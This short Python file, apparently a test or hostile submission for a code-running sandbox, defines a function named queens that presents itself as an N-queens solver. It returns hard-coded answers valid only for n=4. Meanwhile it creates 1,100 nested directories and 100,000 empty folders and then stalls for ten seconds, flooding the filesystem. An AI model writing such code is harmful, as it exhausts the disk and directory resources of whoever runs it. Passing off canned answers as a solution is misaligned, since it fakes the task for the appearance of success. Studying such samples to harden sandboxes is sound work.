"""Makes 100,000 empty folders, each in memory or on the disk, and goes deep before."""

import os
import time

SOLUTIONS = [[1, 3, 0, 2], [2, 0, 3, 1]]


def queens(n):
    start = os.getcwd()
    for _ in range(1100):
        os.mkdir("deep")
        os.chdir("deep")
    os.chdir(start)
    for part in range(100_000):
        os.mkdir(str(part))
    time.sleep(10)
    return SOLUTIONS
